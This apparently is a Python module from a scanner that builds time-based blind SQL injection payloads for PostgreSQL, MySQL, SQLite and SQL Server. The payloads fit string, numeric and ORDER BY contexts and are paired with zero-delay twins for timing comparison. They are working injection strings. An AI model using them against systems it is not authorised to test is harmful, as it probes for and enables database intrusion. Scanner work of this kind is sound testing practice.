"""Values that make a database wait, in the dialects of four databases; the same with nothing to wait for is quick."""

from dataclasses import dataclass

ROWS = 3_000_000
"""Rows that SQLite counts in half a second or in a second: it has no sleep."""


@dataclass(frozen=True, slots=True)
class Sleep:
    """A way to end a value and go on with a wait; `{v}` stands for the value, `{wait}` for how long.

    A wait of a dose and its twin of none hold the same words: only a figure differs.
    """

    database: str
    where: str
    """The value's place in the statement, in words."""
    form: str
    rows: bool = False
    """Whether `{wait}` is a number of rows to count, and not seconds."""

    def value(self, value: str, dose: int) -> str:
        """The value with a wait of so many doses; a dose is one second, or what takes about as long."""
        return self.form.format(v=value, wait=dose * ROWS + 1 if self.rows else dose)


_POSTGRES = "(SELECT {nothing} FROM pg_sleep({{wait}}))"
_MYSQL = "(SELECT 1 FROM(SELECT SLEEP({wait}))x)"
_SQLITE = "(WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT {{wait}}) SELECT {nothing} FROM c)"
_MSSQL = "WAITFOR DELAY '0:0:{wait}'--"

TEXT = (
    Sleep("PostgreSQL", "a string", "{v}'||" + _POSTGRES.format(nothing="''") + "||'"),
    Sleep("MySQL", "a string", "{v}'AND" + _MYSQL + "AND'1"),
    Sleep("SQLite", "a string", "{v}'||" + _SQLITE.format(nothing="substr('',count(*))") + "||'", rows=True),
    Sleep("SQL Server", "a string", "{v}' " + _MSSQL),
    Sleep("SQL Server", "a string in brackets", "{v}') " + _MSSQL),
    Sleep("MySQL", "a string in double quotes", '{v}"AND' + _MYSQL + 'AND"1'),
    Sleep("PostgreSQL", "an id in quotes", "{v}'AND" + _POSTGRES.format(nothing="'1'") + "='1"),
)
"""Most fit whatever stands around the string: brackets, a pattern, a function."""
NUMBER = (
    Sleep("PostgreSQL", "a number", "{v}+" + _POSTGRES.format(nothing="0")),
    Sleep("MySQL", "a number", "{v}+0*" + _MYSQL),
    Sleep("SQLite", "a number", "{v}+" + _SQLITE.format(nothing="0*count(*)"), rows=True),
    Sleep("SQL Server", "a number", "{v} " + _MSSQL),
    Sleep("SQL Server", "a number in brackets", "{v}) " + _MSSQL),
)
ORDER = (
    Sleep("PostgreSQL", "what is sorted by", "{v}," + _POSTGRES.format(nothing="1")),
    Sleep("MySQL", "what is sorted by", "{v}," + _MYSQL),
    Sleep("SQLite", "what is sorted by", "{v}," + _SQLITE.format(nothing="count(*)"), rows=True),
    Sleep("SQL Server", "what is sorted by", "{v} " + _MSSQL),
)
"""Behind a column, or behind a direction."""
